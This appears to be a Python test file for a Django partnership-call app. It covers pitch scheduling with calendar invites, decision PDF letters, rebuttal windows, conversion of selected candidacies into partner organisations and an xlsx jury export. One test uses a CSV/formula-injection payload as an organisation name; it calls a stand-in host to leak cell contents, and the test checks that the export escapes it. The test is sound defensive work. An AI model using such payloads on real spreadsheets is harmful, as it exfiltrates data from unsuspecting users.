"""Pitches with .ics invitations, decisions with a PDF letter, rebuttals, conversion to partners, the xlsx export."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.test import Client as Browser

from apps.accounts.models import Organisation
from apps.audit.models import AuditEntry
from apps.offers.models import Offer
from apps.partnership import services_conversion, services_decisions, services_jury, services_pitches, timeline
from apps.partnership.models import Candidacy
from apps.partnership.tests.conftest import make_candidacy

BRUSSELS = timeline.BRUSSELS


def test_a_pitch_is_scheduled_in_a_pitch_week_with_an_ics_invitation(
    personas: Any, candidacy: Candidacy, django_capture_on_commit_callbacks: Any
) -> None:
    with pytest.raises(ValidationError, match="shortlist"):
        services_pitches.pitch_schedule(candidacy=candidacy, actor=personas.wouter, location="Stadhuis",
                                starts_at=dt.datetime(2023, 6, 6, 10, tzinfo=BRUSSELS))  # fmt: skip
    services_jury.shortlist_set(candidacy=candidacy, actor=personas.wouter, shortlisted=True)
    for outside in [dt.datetime(2023, 6, 19, 10), dt.datetime(2023, 6, 10, 10), dt.datetime(2023, 6, 4, 10)]:
        with pytest.raises(ValidationError, match="pitch weeks|pitchweken"):
            services_pitches.pitch_schedule(candidacy=candidacy, actor=personas.wouter, location="Stadhuis",
                                    starts_at=outside.replace(tzinfo=BRUSSELS))  # fmt: skip
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        slot = services_pitches.pitch_schedule(candidacy=candidacy, actor=personas.wouter, location="Stadhuis Oostende",
                                       starts_at=dt.datetime(2023, 6, 13, 14, 30, tzinfo=BRUSSELS))  # fmt: skip
    message = mail.outbox[0]
    name, content, mimetype = message.attachments[0]
    assert name == "pitch.ics" and mimetype == "text/calendar"
    import icalendar

    event = icalendar.Calendar.from_ical(content).walk("VEVENT")[0]
    assert event.decoded("dtstart") == dt.datetime(2023, 6, 13, 14, 30, tzinfo=BRUSSELS)
    assert event.decoded("dtend") - event.decoded("dtstart") == dt.timedelta(minutes=30)
    assert str(event["location"]) == "Stadhuis Oostende"
    moved = services_pitches.pitch_schedule(candidacy=candidacy, actor=personas.wouter, location="Stadhuis Oostende",
                                    starts_at=dt.datetime(2023, 6, 5, 9, tzinfo=BRUSSELS))  # fmt: skip
    assert moved.pk == slot.pk and moved.sequence == 1


def test_the_pitch_form_on_the_page(personas: Any, candidacy: Candidacy, client: Browser) -> None:
    services_jury.shortlist_set(candidacy=candidacy, actor=personas.wouter, shortlisted=True)
    client.force_login(personas.wouter)
    url = f"/oproep/oostende/jury/{candidacy.pk}/pitch/"
    response = client.post(url, {"starts_at": "2023-07-03T10:00", "duration_minutes": "30", "location": "Zaal"})
    assert response.status_code == 400 and "05/06/2023, 12/06/2023" in response.content.decode()
    response = client.post(url, {"starts_at": "2023-06-07T10:00", "duration_minutes": "45", "location": "Zaal"})
    assert response.status_code == 302
    candidacy.refresh_from_db()
    assert candidacy.pitch.starts_at == dt.datetime(2023, 6, 7, 8, tzinfo=dt.UTC)


def test_a_decision_sends_a_pdf_letter_and_opens_the_rebuttal_window(personas: Any, candidacy: Candidacy,
                                                                     client: Browser,
                                                                     django_capture_on_commit_callbacks: Any,
                                                                     ) -> None:  # fmt: skip
    decided_at = dt.datetime(2023, 6, 28, 12, tzinfo=BRUSSELS)
    with pytest.raises(ValidationError):
        services_decisions.rebuttal_submit(candidacy=candidacy, text="x", now=decided_at)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services_decisions.decision_record(candidacy=candidacy, actor=personas.wouter, decision="not_selected",
                                 motivation="Onvoldoende aansluiting bij de uitdagingen.", now=decided_at)  # fmt: skip
    message = mail.outbox[0]
    name, pdf, mimetype = message.attachments[0]
    assert mimetype == "application/pdf" and pdf.startswith(b"%PDF") and candidacy.reference in name
    client.force_login(personas.wouter)
    response = client.get(f"/oproep/oostende/jury/{candidacy.pk}/beslissing.pdf")
    assert response["Content-Type"] == "application/pdf" and response.content.startswith(b"%PDF")
    client.logout()
    assert client.get(f"/oproep/kandidatuur/{candidacy.token}/beslissing.pdf").content.startswith(b"%PDF")
    # the rebuttal window runs to the end of the rebuttal date (15/07/2023, Brussels time)
    end = dt.datetime(2023, 7, 16, 0, 0, tzinfo=BRUSSELS)
    with pytest.raises(ValidationError, match="ended|verstreken"):
        services_decisions.rebuttal_submit(candidacy=candidacy, text="Te laat", now=end)
    rebuttal = services_decisions.rebuttal_submit(
        candidacy=candidacy, text="Wij sluiten wel aan.", now=end - dt.timedelta(seconds=1)
    )
    with pytest.raises(ValidationError, match="already|al een weerwoord"):
        services_decisions.rebuttal_submit(candidacy=candidacy, text="Nog eens", now=end - dt.timedelta(seconds=1))
    with pytest.raises(ValidationError):
        services_decisions.rebuttal_handle(rebuttal=rebuttal, actor=personas.ine, handling="", outcome="rejected")
    services_decisions.rebuttal_handle(rebuttal=rebuttal, actor=personas.ine, handling="Besproken in de jury.",
                             outcome="rejected")  # fmt: skip
    rebuttal.refresh_from_db()
    assert rebuttal.outcome == "rejected" and rebuttal.handled_by == personas.ine
    assert AuditEntry.objects.filter(action="partnership.rebuttal.handled").exists()


def test_the_rebuttal_through_the_private_link(personas: Any, candidacy: Candidacy, client: Browser) -> None:
    services_decisions.decision_record(
        candidacy=candidacy, actor=personas.wouter, decision="not_selected", motivation="Nee"
    )
    call = candidacy.region.call
    call.rebuttal_by = dt.date.today() + dt.timedelta(days=10)
    call.save()
    url = f"/oproep/kandidatuur/{candidacy.token}/"
    assert "Weerwoord" in client.get(url).content.decode() or "Rebuttal" in client.get(url).content.decode()
    assert client.post(url + "weerwoord/", {"text": ""}).status_code == 400
    assert client.post(url + "weerwoord/", {"text": "Wij hebben wel capaciteit."}).status_code == 302
    assert candidacy.rebuttal.text == "Wij hebben wel capaciteit."


def test_selected_candidacies_become_partner_organisations_with_offers(personas: Any, settings: Any,
                                                                       tmp_path: Any) -> None:  # fmt: skip
    settings.MEDIA_ROOT = tmp_path
    region = personas.region
    a = make_candidacy(region, name="Alfa vzw", kbo="0202239951", types={"psychological-help": 40,
                       "mobility-support": 20}, outreach=True)  # fmt: skip
    b = make_candidacy(region, name="Beta", kbo="0403170701", types={"dutch-learning": 12}, outreach=False)
    c = make_candidacy(region, name="Gamma", kbo="0417497106")
    services_decisions.decision_record(candidacy=a, actor=personas.wouter, decision="selected", motivation="Ja")
    services_decisions.decision_record(candidacy=b, actor=personas.wouter, decision="selected", motivation="Ja")
    services_decisions.decision_record(candidacy=c, actor=personas.wouter, decision="not_selected", motivation="Nee")
    converted = services_conversion.selected_candidacies_convert(region=region, actor=personas.wouter)
    assert {x.pk for x in converted} == {a.pk, b.pk}
    a.refresh_from_db()
    org = a.partner_organisation
    assert org is not None and org.kind == Organisation.Kind.PARTNER and org.region == region and org.name == "Alfa vzw"
    offers = Offer.objects.filter(organisation=org)
    assert offers.count() == 2
    psy = offers.get(intervention_types__code="psychological-help")
    assert psy.capacity == 40 and psy.capacity_period == "year" and psy.delivery_mode == "outreach"
    assert set(psy.municipalities.all()) == set(a.municipalities.all()) and psy.obstacles.exists()
    assert psy.languages == ["nl", "prs"]
    beta_offer = Offer.objects.get(organisation__name="Beta")
    assert beta_offer.delivery_mode == "at_address" and beta_offer.location_municipality is not None
    assert not Organisation.objects.filter(name="Gamma").exists()
    # idempotent
    services_conversion.selected_candidacies_convert(region=region, actor=personas.wouter)
    assert Offer.objects.filter(organisation__kind="partner", organisation__name__in=["Alfa vzw", "Beta"]).count() == 3
    assert Organisation.objects.filter(name="Alfa vzw").count() == 1
    assert AuditEntry.objects.filter(action="partnership.candidacy.converted").count() == 2
    assert AuditEntry.objects.filter(action="partners.offer.created").count() == 3


def test_the_xlsx_export_of_candidacies_scores_and_history(personas: Any, criteria: Any, candidacy: Candidacy,
                                                           client: Browser) -> None:  # fmt: skip
    from openpyxl import load_workbook

    services_jury.conflict_declare(candidacy=candidacy, member=personas.ine, has_conflict=False)
    for value in (3, 4):
        services_jury.scores_save(candidacy=candidacy, member=personas.ine, round=1,
                             values={c.pk: (value, f"m{value}") for c in criteria})  # fmt: skip
    services_jury.consensus_record(candidacy=candidacy, actor=personas.wouter, score=Decimal("3.5"), motivation="x")
    client.force_login(personas.wouter)
    response = client.get("/oproep/oostende/jury/export.xlsx")
    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    wb = load_workbook(io.BytesIO(response.content))
    first, scores, history = wb.worksheets
    rows = list(first.iter_rows(values_only=True))
    assert rows[1][1] == candidacy.reference and rows[1][9] == 4.0 and rows[1][10] == 3.5
    assert len(list(scores.iter_rows())) == 1 + 2
    assert len(list(history.iter_rows())) == 1 + 4
    assert AuditEntry.objects.filter(action="partnership.export.downloaded").exists()


def test_a_hostile_organisation_name_is_text_not_a_formula_in_the_jurys_workbook(
    personas: Any, criteria: Any, client: Browser
) -> None:
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    make_candidacy(personas.region, name=hostile, kbo="0403170701")
    client.force_login(personas.wouter)
    response = client.get("/oproep/oostende/jury/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


def test_the_one_cell_helper_neutralises_every_formula_start() -> None:
    from apps.core.cells import safe_cell, safe_row

    assert safe_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 5, -5, None]) == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 5, -5, None,
    ]  # fmt: skip
    assert safe_cell("Café =x") == "Café =x"
